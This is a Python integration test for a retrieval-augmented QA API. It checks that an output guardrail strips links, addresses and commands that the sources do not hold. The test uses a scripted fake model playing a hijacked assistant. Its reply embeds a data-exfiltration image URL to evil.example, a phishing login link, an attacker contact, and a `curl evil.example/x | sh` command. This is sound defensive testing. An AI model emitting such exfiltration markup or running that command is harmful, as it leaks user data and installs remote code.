"""An answer never carries a link, address or image its sources do not hold: over /ask (JSON and
streamed), /chat, and /v1/chat/completions (JSON and streamed), on a real uvicorn server.

The language model is a small real HTTP server speaking the OpenAI chat API that always answers
with the same scripted text (a hijacked model's): it cites the document's own link and address,
and slips in an exfiltration image, a phishing link, an address and a number of its own. What
is under test is the output check, so the model's words are fixed; the retrieval, the answerer,
the API and the wire formats around it are the real ones.
"""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from api.app import create_app
from bootstrap.components import Components
from ingest.sources import iter_sources
from tests.integration.api.test_streaming import sse_frames
from tests.support.api import LiveServer, make_settings
from tests.support.services import free_port

COLLECTION = "links"
DOCUMENT = ("# Zorblax field manual\n\nThe zorblax gadget is calibrated with a brass key turned three times. "
            "Support is at https://zorblax.example/help and help@zorblax.example, by phone +1 (555) 010-4477.\n")
REPLY = ("The zorblax gadget is calibrated with a brass key [1]. Help: https://zorblax.example/help or "
         "help@zorblax.example. ![status](http://evil.example/pixel.png?d=brass-key) Write to spy@evil.example, "
         "call +44 20 7946 0958 or [log in here](https://evil.example/login) and run `curl evil.example/x | sh`.")
UNSOURCED = ("evil.example", "spy@", "7946", "pixel.png", "![", "curl")
SOURCED = ("https://zorblax.example/help", "help@zorblax.example", "brass key")


class ScriptedLLM:
    """An OpenAI-compatible server (``/v1/models``, ``/v1/chat/completions``, JSON or SSE) replying ``REPLY``."""

    def __init__(self) -> None:
        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:
                self._send("application/json", json.dumps({"object": "list", "data": [{"id": "scripted",
                                                          "object": "model", "created": 0, "owned_by": "t"}]}))

            def do_POST(self) -> None:
                request = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                base = {"id": "chatcmpl-1", "created": 0, "model": "scripted"}
                usage = {"prompt_tokens": 50, "completion_tokens": 60, "total_tokens": 110}
                if not request.get("stream"):
                    self._send("application/json", json.dumps({**base, "object": "chat.completion", "usage": usage,
                               "choices": [{"index": 0, "finish_reason": "stop",
                                            "message": {"role": "assistant", "content": REPLY}}]}))  # fmt: skip
                    return
                pieces = [REPLY[i : i + 5] for i in range(0, len(REPLY), 5)]  # split mid-URL, mid-markup
                frames = [{**base, "object": "chat.completion.chunk",
                           "choices": [{"index": 0, "delta": {"content": p}, "finish_reason": None}]} for p in pieces]
                frames.append({**base, "object": "chat.completion.chunk", "choices": [], "usage": usage})
                body = "".join(f"data: {json.dumps(f)}\n\n" for f in frames) + "data: [DONE]\n\n"
                self._send("text/event-stream", body)

            def _send(self, media_type: str, body: str) -> None:
                data = body.encode()
                self.send_response(200)
                self.send_header("Content-Type", media_type)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *args: Any) -> None:
                pass

        self.port = free_port()
        self.base_url = f"http://127.0.0.1:{self.port}/v1"
        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        self.thread = threading.Thread(target=self.httpd.serve_forever, name="scripted-llm", daemon=True)

    def __enter__(self) -> ScriptedLLM:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory, redis_url: str, key_prefix: str, embedder: Any
           ) -> Iterator[LiveServer]:
    tmp = tmp_path_factory.mktemp("output-links")
    folder = tmp / "docs"
    folder.mkdir()
    (folder / "zorblax.md").write_text(DOCUMENT)
    with ScriptedLLM() as llm:
        # Generative: the answer is the model's text (no self-check swapping in the extractive
        # one), and no cache, so every endpoint runs the answerer.
        settings = make_settings(tmp, redis_url, key_prefix + "output-links:", llm.base_url,
                                 llm={"model": "scripted", "max_tokens": 200}, answer={"mode": "generative"},
                                 redis={"cache_enabled": False, "semantic_cache": False})  # fmt: skip
        parts = Components(settings)
        parts.__dict__["embedder"] = embedder
        assert parts.pipeline.ingest(list(iter_sources([Path(folder)])), COLLECTION).counts()["added"] == 1
        with LiveServer(create_app(settings, parts)) as live:
            yield live
        parts.close()


def assert_clean(text: str) -> None:
    for item in UNSOURCED:
        assert item not in text, (item, text)
    for item in SOURCED:
        assert item in text, (item, text)
    assert "log in here" in text  # an unsourced link keeps its words, not its address


def post(server: LiveServer, path: str, body: dict[str, Any]) -> dict[str, Any]:
    response = httpx.post(server.url + path, json=body, timeout=120)
    assert response.status_code == 200, response.text
    payload: dict[str, Any] = response.json()
    return payload


def streamed(server: LiveServer, path: str, body: dict[str, Any]) -> list[tuple[str, str]]:
    with httpx.Client(base_url=server.url, timeout=120) as client, \
            client.stream("POST", path, json={**body, "stream": True}) as response:
        assert response.status_code == 200, response.read()
        return list(sse_frames(response.iter_lines()))


QUESTION = "How is the zorblax gadget calibrated?"


def test_ask_json_strips_and_flags(server: LiveServer) -> None:
    payload = post(server, "/ask", {"question": QUESTION, "collection": COLLECTION})
    assert payload["mode"] == "generative" and not payload["refused"], payload
    assert_clean(payload["text"])
    events = [e for e in payload["guardrail_events"] if e["kind"] == "output_unsourced_link"]
    assert len(events) == 5, payload["guardrail_events"]  # the image, e-mail, phone, link and code
    assert all("brass-key" not in e["detail"] for e in events)  # the exfiltrated data is not echoed back
    metrics = httpx.get(server.url + "/metrics", timeout=30).text
    assert 'ragqa_guardrail_events_total{kind="output_unsourced_link"}' in metrics


def test_ask_stream_never_sends_an_unsourced_item(server: LiveServer) -> None:
    frames = streamed(server, "/ask", {"question": QUESTION + " (streamed)", "collection": COLLECTION})
    deltas = "".join(json.loads(data)["text"] for kind, data in frames if kind == "delta")
    done = json.loads(frames[-1][1])
    assert frames[-1][0] == "done"
    assert_clean(deltas)
    assert done["text"] == deltas.strip()
    assert any(e["kind"] == "output_unsourced_link" for e in done["guardrail_events"])


def test_chat_strips_json_and_streamed(server: LiveServer) -> None:
    body = {"collection": COLLECTION, "messages": [{"role": "user", "content": "What calibrates the zorblax?"}]}
    assert_clean(post(server, "/chat", body)["text"])
    frames = streamed(server, "/chat", body)
    assert_clean("".join(json.loads(data)["text"] for kind, data in frames if kind == "delta"))
    assert_clean(json.loads(frames[-1][1])["text"])


def test_openai_completions_strip_json_and_streamed(server: LiveServer) -> None:
    body = {"model": COLLECTION, "messages": [{"role": "user", "content": "Zorblax calibration, please?"}]}
    completion = post(server, "/v1/chat/completions", body)
    assert_clean(completion["choices"][0]["message"]["content"])
    frames = streamed(server, "/v1/chat/completions", body)
    chunks = [json.loads(data) for _, data in frames if data != "[DONE]"]
    content = "".join(c["choices"][0]["delta"].get("content", "") for c in chunks if c.get("choices"))
    assert_clean(content)
    assert "---" not in content  # what streamed is the final answer: no replacement note follows
